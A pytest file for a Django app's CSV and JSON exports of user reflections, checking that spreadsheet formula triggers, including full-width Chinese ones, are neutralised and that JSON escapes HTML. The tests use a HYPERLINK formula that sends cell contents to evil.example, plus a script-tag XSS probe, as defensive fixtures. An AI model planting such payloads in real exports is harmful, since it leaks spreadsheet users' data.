"""Exports open safely in Excel/WPS: no cell runs as a formula, the JSON stays the true text."""

import csv
import io
import json

import pytest
from django.conf import settings
from django.urls import reverse

from experiences.reflections.exports import csv_cell, reflections_csv, reflections_json
from experiences.reflections.models import Reflection
from tests.factories import ReflectionFactory, UserFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
# What a Chinese input method types: WPS evaluates these as formulas too.
FULL_WIDTH_TRIGGERS = ["\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"点我")'


def hostile(trigger: str, principle) -> Reflection:
    """A published reflection whose every author-controlled column starts with ``trigger``."""
    author = UserFactory(
        username=f"u{ord(trigger)}", display_name=trigger + "显示名", unit=trigger + "某某乡镇"
    )
    return ReflectionFactory.create(
        author=author,
        principle=principle,
        title=trigger + FORMULA,
        body=trigger + "1+1 正文",
        tags=[trigger + "标签"],
    )


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_every_formula_trigger_is_quoted_in_every_column(trigger, principle):
    reflection = hostile(trigger, principle)
    [row] = csv_rows(reflections_csv(Reflection.objects.filter(pk=reflection.pk)))
    assert row["标题"] == "'" + trigger + FORMULA
    assert row["作者"] == "'" + trigger + "显示名"
    assert row["单位"] == "'" + trigger + "某某乡镇"
    assert row["标签"] == "'" + trigger + "标签"
    assert row["正文"] == "'" + trigger + "1+1 正文"


@pytest.mark.parametrize("trigger", FULL_WIDTH_TRIGGERS, ids=["eq", "plus", "minus", "at"])
def test_full_width_formula_triggers_are_quoted_too(trigger, principle):
    reflection = hostile(trigger, principle)
    [row] = csv_rows(reflections_csv(Reflection.objects.filter(pk=reflection.pk)))
    assert row["标题"] == "'" + trigger + FORMULA
    assert row["作者"] == "'" + trigger + "显示名"
    assert row["单位"] == "'" + trigger + "某某乡镇"
    assert row["正文"] == "'" + trigger + "1+1 正文"
    # Tag names are NFKC-normalised on input: the full-width sign is stored as ASCII.
    assert row["标签"].startswith("'")


def test_small_form_variants_are_quoted():
    # U+FE66 small equals sign, U+FE62 small plus sign: NFKC folds them to = and +.
    assert csv_cell("\ufe66SUM(A1)") == "'\ufe66SUM(A1)"
    assert csv_cell("\ufe62SUM(A1)") == "'\ufe62SUM(A1)"


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_json_keeps_the_true_text(trigger, principle):
    reflection = hostile(trigger, principle)
    [item] = json.loads(reflections_json(Reflection.objects.filter(pk=reflection.pk)))
    assert item["标题"] == trigger + FORMULA
    assert item["作者"] == trigger + "显示名"
    assert item["正文"] == trigger + "1+1 正文"


def test_ordinary_cells_are_unchanged(principle):
    author = UserFactory(username="xiaoli", display_name="小李", unit="城关镇")
    reflection = ReflectionFactory(
        author=author,
        principle=principle,
        title="先听后说",
        body="和群众说话 = 先听\uff0c再说 -- 不抢话。\n- 列表在中间不算",
        tags=["沟通", "群众工作"],
    )
    [row] = csv_rows(reflections_csv(Reflection.objects.filter(pk=reflection.pk)))
    assert row["标题"] == "先听后说"
    assert row["作者"] == "小李" and row["单位"] == "城关镇"
    assert row["标签"] == "沟通、群众工作"
    assert row["正文"] == "和群众说话 = 先听\uff0c再说 -- 不抢话。\n- 列表在中间不算"
    assert row["编号"] == str(reflection.pk) and row["点赞数"] == "0"
    assert row["链接"] == reflection.get_absolute_url()


def test_only_strings_are_touched():
    assert csv_cell(-3) == -3
    assert csv_cell("") == ""
    assert csv_cell("'=already quoted") == "'=already quoted"
    assert csv_cell(" =1+1") == " =1+1"


def test_json_escapes_angle_brackets_and_ampersands_but_decodes_to_the_same_text(principle):
    reflection = ReflectionFactory(principle=principle, body="<script>alert(1)</script> & 原文")
    raw = reflections_json(Reflection.objects.filter(pk=reflection.pk)).decode("utf-8")
    assert "<" not in raw and ">" not in raw and "&" not in raw
    assert "原文" in raw, "Chinese stays readable"
    assert json.loads(raw)[0]["正文"] == "<script>alert(1)</script> & 原文"


def test_admin_csv_action_neutralises_formulas(admin_client, principle):
    reflection = hostile("=", principle)
    response = admin_client.post(
        reverse("admin:experiences_reflection_changelist"),
        {"action": "export_csv", "_selected_action": [reflection.pk]},
    )
    assert response.status_code == 200
    [row] = csv_rows(response.content)
    assert row["标题"] == "'=" + FORMULA and row["作者"] == "'=显示名"
    assert row["链接"] == settings.SITE_URL + reflection.get_absolute_url()  # never the Host
